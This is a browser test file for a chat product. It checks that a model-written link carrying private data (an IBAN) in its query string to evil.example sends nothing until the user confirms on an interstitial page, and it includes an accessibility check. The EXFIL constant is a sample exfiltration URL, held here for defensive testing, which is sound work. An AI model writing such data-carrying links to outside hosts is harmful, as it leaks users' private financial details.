"""Issue 33.3 in Chromium: a link the model wrote carrying private data in its
query string sends nothing to its host until the person, shown the whole
address on our interstitial, clicks a second time. axe-core on the interstitial."""

import pytest

from tests.web.accessibility import assert_accessible
from tests.web.conftest import make_conversation

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

EXFIL = "https://evil.example/c?iban=CH9300762011623852957"


def test_nothing_reaches_the_other_host_before_the_second_click(browser, owner):
    thread = make_conversation(owner, reply=f"Here is [your invoice]({EXFIL}).")
    page = browser.page(owner)
    reached = []

    def record(route):
        reached.append(route.request.url)
        route.abort()

    page.context.route("https://evil.example/**", record)
    page.goto(f"/c/{thread.id}/")
    link = page.get_by_role("link", name="your invoice")
    assert page.locator(".link-host").first.inner_text() == "(evil.example)"
    with page.context.expect_page() as opened:
        link.click()
    interstitial = opened.value
    interstitial.wait_for_load_state()
    assert interstitial.url.startswith(browser.url + "/out/")
    assert interstitial.locator("[data-outbound-url]").inner_text() == EXFIL
    assert reached == []  # shown, clicked once: nothing left for evil.example
    assert_accessible(interstitial, "the link interstitial")
    # The second click goes there (aborted here: the test only needs to see it leave).
    with interstitial.context.expect_event("request", lambda request: request.url == EXFIL):
        interstitial.get_by_role("link", name="Open evil.example").click()
